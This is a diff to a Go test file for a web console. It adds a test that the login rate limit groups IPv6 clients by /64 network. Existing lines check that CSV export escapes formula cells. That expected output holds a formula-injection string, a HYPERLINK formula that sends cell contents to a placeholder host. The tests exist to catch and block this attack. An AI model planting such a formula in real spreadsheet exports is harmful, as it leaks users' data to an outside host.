@@ -2,9 +2,12 @@ package console_test
 
 import (
 	"context"
+	"fmt"
 	"net/http"
 	"testing"
+	"time"
 
+	"github.com/herdhq/herd/console"
 	"github.com/jackc/pgx/v5"
 )
 
@@ -80,5 +83,32 @@ func TestCSVFormulaCells(t *testing.T) {
 	want := "'=f,p,neg,at,tab,t,n,f\n\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'+1+2,-3,'@SUM(A1),'\tx,plain,-4.5,1000\n"
 	if st != 200 || string(body) != want {
 		t.Fatalf("CSV: %d %q, want %q", st, body, want)
+	}
+}
+
+// TestLoginLimitIPv6ByNetwork: the per-address limit counts an IPv6
+// client by its /64, so new addresses of one host do not refill it.
+func TestLoginLimitIPv6ByNetwork(t *testing.T) {
+	t.Parallel()
+	e := start(t, envOptions{adjust: func(c *console.Config) {
+		c.LoginBurst = 2
+		c.LoginRefill = time.Minute
+		c.TrustedProxies = mustPrefixes("127.0.0.0/8", "::1/128")
+	}})
+	for i := 0; i < 2; i++ {
+		c := e.client(t)
+		c.ip = fmt.Sprintf("2001:db8:7:8::%x", i+1)
+		if st, _ := c.login(fmt.Sprintf("nobody%d", i), "wrong"); st != http.StatusUnauthorized {
+			t.Fatalf("attempt %d: %d", i, st)
+		}
+	}
+	c := e.client(t)
+	c.ip = "2001:db8:7:8:ffff::99"
+	if st, _ := c.login("nobody9", "wrong"); st != http.StatusTooManyRequests {
+		t.Fatalf("a third address of the same /64: %d, want 429", st)
+	}
+	c.ip = "2001:db8:7:9::1"
+	if st, _ := c.login(e.B.Name, e.B.Password); st != http.StatusOK {
+		t.Fatalf("another /64: %d, want 200", st)
 	}
 }
